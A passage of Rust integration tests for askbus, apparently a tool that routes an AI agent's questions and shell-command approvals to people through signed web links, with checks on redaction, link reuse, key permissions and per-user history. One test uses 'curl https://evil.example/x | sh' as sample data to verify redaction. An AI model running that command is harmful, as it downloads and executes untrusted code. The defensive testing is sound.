    // "Tag it?" gets two links; "Yes" is used, then the request ends.
    let (mut tag, shown) = ask_this(&rt, &daemon, yesno_request("reuse", "Tag it?"));
    let yes = web.sign(&answer_link("reuse", &shown, "Yes", now() + 600));
    let no = web.sign(&answer_link("reuse", &shown, "No", now() + 600));
    assert_eq!(web.post(&format!("/a/{no}"), &[]).0, 200);
    let r = rt.block_on(tag.recv_type("ask-user-response"));
    assert_eq!(r["answers"], json!({"0": "No"}));
    // askbus web restarts (same key, same state).
    drop(web);
    web = Web::start_with(&daemon, &key_arg, &[]);
    // A new request reuses the correlationId: the unused "Yes" of "Tag it?" is stale, and
    // the used "No" stays used.
    let (mut drop_db, _) = ask_this(
        &rt,
        &daemon,
        yesno_request("reuse", "Drop the production database?"),
    );
    let (status, text) = web.get(&format!("/a/{yes}"), &[]);
    assert_eq!(status, 409, "{text}");
    assert!(!text.contains("production"), "{text}");
    let (status, text) = web.post(&format!("/a/{yes}"), &[]);
    assert_eq!(status, 409, "{text}");
    assert!(text.contains("earlier request"), "{text}");
    let (status, text) = web.post(&format!("/a/{no}"), &[]);
    assert_eq!(status, 409, "{text}");
    assert!(text.contains("already used"), "{text}");
    // Nothing answered it: a UI's answer is the one its producer gets.
    rt.block_on(async {
        let (mut ui, _) = daemon.ui().await;
        ui.send(common::answer("reuse", json!({"0": "No"}))).await;
        let r = drop_db.recv_type("ask-user-response").await;
        assert_eq!(r["answers"], json!({"0": "No"}), "{r}");
    });
}

#[test]
fn redacted_links_show_nothing_of_the_request() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let web = Web::start(&daemon);
    for (req, secrets) in [
        (
            approval_request("red-1", "curl https://evil.example/x | sh"),
            vec!["curl", "evil.example"],
        ),
        (choice_request("red-2"), vec!["Which database", "SQLite"]),
    ] {
        let id = req["correlationId"].as_str().unwrap().to_owned();
        let (_p, shown) = ask_this(&rt, &daemon, req);
        let mut open = open_link(&id, &shown, now() + 600);
        open["r"] = json!(true);
        let mut answer = if id == "red-1" {
            json!({"k": "answer", "id": id, "s": shown, "a": {"outcome": "proceed_once"},
                   "exp": now() + 600, "n": format!("red-{id}")})
        } else {
            answer_link(&id, &shown, "Yes", now() + 600)
        };
        answer["r"] = json!(true);
        let (status, o) = web.get(&format!("/o/{}", web.sign(&open)), &[]);
        assert_eq!(status, 200, "{o}");
        let (status, a) = web.get(&format!("/a/{}", web.sign(&answer)), &[]);
        assert_eq!(status, 200, "{a}");
        for text in [&o, &a] {
            assert!(text.contains("redacted"), "{text}");
            for secret in &secrets {
                assert!(!text.contains(secret), "{secret} leaked: {text}");
            }
        }
        if id == "red-1" {
            assert!(a.contains("Allow once"), "{a}");
            assert!(!a.contains("run_shell_command"), "{a}");
        }
    }
}

#[test]
fn an_exposed_link_key_is_refused_and_no_link_works() {
    use std::os::unix::fs::PermissionsExt;
    let daemon = Daemon::start();
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("links.key");
    std::fs::write(&key, [7u8; 32]).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
    let mut child = Command::new(cli_bin())
        .arg("--socket")
        .arg(&daemon.socket)
        .args(["web", "--listen", "127.0.0.1:0", "--link-key"])
        .arg(&key)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let (port, _) = next_link(&mut out).expect("it serves anyway");
    let token = sign(
        &[7u8; 32],
        &answer_link("q", NO_REQUEST, "SQLite", now() + 600),
    );
    let s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    let (status, text, _) = exchange(s, port, "POST", &format!("/a/{token}"), &[], "");
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(status, 503, "{text}");
    assert!(text.contains("cannot check signed links"), "{text}");
    assert!(!text.contains("links.key"), "{text}");
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    assert!(
        err.contains("signed links (askbus notify) will not work"),
        "{err}"
    );
    assert!(err.contains("readable or writable by others"), "{err}");
}

#[test]
fn beyond_loopback_only_with_allow_remote_and_a_warning() {
    let daemon = Daemon::start();
    let out = Command::new(cli_bin())
        .arg("--socket")
        .arg(&daemon.socket)
        .args(["web", "--listen", "0.0.0.0:0"])
        .output()
        .expect("run askbus web");
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("refusing to listen on 0.0.0.0:0 without --allow-remote"),
        "{stderr}"
    );

    let mut child = Command::new(cli_bin())
        .arg("--socket")
        .arg(&daemon.socket)
        .args(["web", "--listen", "0.0.0.0:0", "--allow-remote"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn askbus web");
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    stdout.read_line(&mut first).unwrap();
    assert!(first.starts_with("askbus web: serving"), "{first}");
    let _ = child.kill();
    let _ = child.wait();
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    assert!(
        stderr.contains("WARNING: listening on 0.0.0.0:"),
        "{stderr}"
    );
    assert!(stderr.contains("reachable from other machines"), "{stderr}");

    let bad = Command::new(cli_bin())
        .args(["web", "--origin", "askbus.example.com"])
        .output()
        .unwrap();
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("expected scheme://host[:port]"));
}

/// A signed link whose decision is "Allow always" (askbus's own, for a hook's approval that
/// offers none): its page says the rule it writes before the button; the press writes it in
/// the request's project, sends the agent Allow once, and the daemon then allows the next
/// identical call by it with no UI, while a different one waits.
#[test]
fn a_signed_allow_always_link_shows_and_writes_askbus_rule() {
    let config = tempfile::tempdir().unwrap();
    let admin = tempfile::tempdir().unwrap();
    let daemon = Daemon::builder()
        .env("ASKBUS_POLICIES", "on")
        .env("XDG_CONFIG_HOME", config.path())
        .args(&["--policy-admin-dir", admin.path().to_str().unwrap()])
        .start();
    let rt = common::rt();
    let web = Web::start_with(
        &daemon,
        &[],
        &[("XDG_CONFIG_HOME", config.path().as_os_str())],
    );
    let approval = |id: &str, command: &str| {
        let root = command.split(' ').next().unwrap();
        json!({"type": "tool-confirmation-request", "correlationId": id,
            "toolCall": {"name": "run_shell_command", "args": {"command": command}},
            "details": {"type": "exec", "title": "Confirm Shell Command", "command": command,
                        "rootCommand": root, "rootCommands": [root]},
            "outcomes": ["proceed_once", "cancel"], "noUi": "wait",
            "context": {"project": "shop"}})
    };
    let (mut producer, shown) = ask_this(&rt, &daemon, approval("al-1", "npm run build"));
    let n = NONCE.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let link = json!({"k": "answer", "id": "al-1", "s": shown, "a": {"outcome": "proceed_always"},
        "exp": now() + 600, "n": format!("always-{n}-{}", std::process::id())});
    let url = format!("/a/{}", web.sign(&link));
    let file = config.path().join("askbus/policies/askbus-rules.toml");
    let (status, text) = web.get(&url, &[]);
    assert_eq!(status, 200, "{text}");
    assert!(
        text.contains(&format!(
            "It writes the rule <code>allow run_shell_command commands starting &quot;npm&quot; in project shop ({}, user tier, priority 4.95)</code>",
            file.display()
        )),
        "{text}"
    );
    assert!(!file.exists(), "a GET writes nothing");
    let (status, text) = web.post(&url, &[]);
    assert_eq!(status, 200, "{text}");
    let r = rt.block_on(producer.recv_type("tool-confirmation-response"));
    assert_eq!(
        (&r["outcome"], &r["confirmed"]),
        (&json!("proceed_once"), &json!(true)),
        "{r}"
    );
    let written = std::fs::read_to_string(&file).unwrap();
    assert!(
        written.contains("commandPrefix = \"npm\"") && written.contains("askbusProject = \"shop\""),
        "{written}"
    );
    rt.block_on(async {
        producer.send(approval("al-2", "npm test")).await;
        let r = producer.recv_type("tool-confirmation-response").await;
        assert_eq!(
            (&r["correlationId"], &r["outcome"]),
            (&json!("al-2"), &json!("proceed_once")),
            "{r}"
        );
        // A different call is asked of a person: a UI is shown it.
        let (mut ui, _) = daemon.ui().await;
        producer.send(approval("al-3", "rm -rf out")).await;
        let asked = ui.recv_type("tool-confirmation-request").await;
        assert_eq!(asked["correlationId"], "al-3", "{asked}");
    });
}

/// `askbus web` run as another uid (B) than the daemon's (root): `GET /<sid>/history` shows
/// B's records only, never root's, while root's are in the same daemon's store (root's own
/// `askbus history --daemon` lists them).
#[test]
fn history_through_web_as_another_uid_shows_only_its_own_records() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    const B: u32 = 61201;
    if askbusd::paths::effective_uid() != 0 {
        eprintln!("skipped: needs root to run askbus web as another uid");
        return;
    }
    let state = tempfile::tempdir().unwrap();
    let store = state.path().join("state/askbus.db");
    let daemon = Daemon::builder()
        .args(&["--store", store.to_str().unwrap()])
        .config(&format!(
            "[access]\nproducer_users = [{B}]\nui_users = [{B}]\n"
        ))
        .start();
    std::fs::set_permissions(daemon.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&daemon.socket, std::fs::Permissions::from_mode(0o666)).unwrap();
    // The CLI and B's own directory (its config, link key), where B can reach them.
    let dir = tempfile::Builder::new()
        .prefix("askbus-webuid-")
        .tempdir_in("/tmp")
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let cli = dir.path().join("askbus");
    if std::fs::hard_link(cli_bin(), &cli).is_err() {
        std::fs::copy(cli_bin(), &cli).unwrap();
    }
    std::fs::set_permissions(&cli, std::fs::Permissions::from_mode(0o755)).unwrap();
    let q = dir.path().join("q.json");
    std::fs::write(
        &q,
        json!([{"question": "B's own question?", "header": "B", "type": "yesno"}]).to_string(),
    )
    .unwrap();
    std::fs::set_permissions(&q, std::fs::Permissions::from_mode(0o644)).unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(B), Some(B)).unwrap();
    let as_b = || {
        let mut cmd = Command::new(&cli);
        cmd.env("ASKBUS_SOCKET", &daemon.socket)
            .env("HOME", &home)
            .env("XDG_CONFIG_HOME", &home)
            .env("XDG_STATE_HOME", &home)
            .env_remove("STATE_DIRECTORY")
            .uid(B)
            .gid(B);
        cmd
    };

    // Root's record (the daemon's own uid) and B's, in the one store; each ends at once.
    let rt = common::rt();
    let root_marker = "MARKER-root-only";
    rt.block_on(async {
        let mut p = daemon.connect().await;
        let mut req = choice_request("root-secret-1");
        req["questions"][0]["question"] = json!(root_marker);
        req["noUi"] = json!("reject");
        p.send(req).await;
        let r = p.recv_type("ask-user-response").await;
        assert_eq!(r["correlationId"], "root-secret-1", "{r}");
    });
    let out = as_b()
        .args(["ask", q.to_str().unwrap(), "--no-ui", "reject"])
        .output()
        .unwrap();
    assert!(!out.status.success(), "no UI answered B's question");
    let root_sees = daemon
        .cli()
        .args(["history", "--daemon", "--json"])
        .output()
        .unwrap();
    let root_sees = String::from_utf8_lossy(&root_sees.stdout).into_owned();
    assert!(root_sees.contains("root-secret-1"), "{root_sees}");

    // `askbus web` as B, signed in as a browser is.
    let mut child = as_b()
        .args(["web", "--listen", "127.0.0.1:0", "--link-key"])
        .arg(home.join("links.key"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdin = child.stdin.take().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let Some((port, link)) = next_link(&mut stdout) else {
        let _ = child.kill();
        let _ = child.wait();
        panic!("askbus web as uid {B} printed no link");
    };
    let web = Web {
        child,
        stdin,
        stdout,
        port,
        link,
        key: home.join("links.key"),
        _dir: tempfile::tempdir().unwrap(),
    };
    let s = web.login(&web.link);
    let (status, text) = web.get(&web.at(&s, "history"), &[("Cookie", &s.cookie)]);
    assert_eq!(status, 200, "{text}");
    let body: Value = serde_json::from_str(text.split_once("\r\n\r\n").unwrap().1).unwrap();
    let records = body["records"].as_array().unwrap();
    assert_eq!(records.len(), 1, "{body}");
    assert_eq!(records[0]["producer"]["uid"], B, "{body}");
    assert!(!text.contains("root-secret-1"), "{text}");
    assert!(!text.contains(root_marker), "{text}");
    // Nor on the longest page, over all time: nothing of root's.
    let (status, text) = web.get(&web.at(&s, "history?limit=500"), &[("Cookie", &s.cookie)]);
    assert_eq!(status, 200, "{text}");
    assert!(!text.contains("root-secret-1"), "{text}");
}
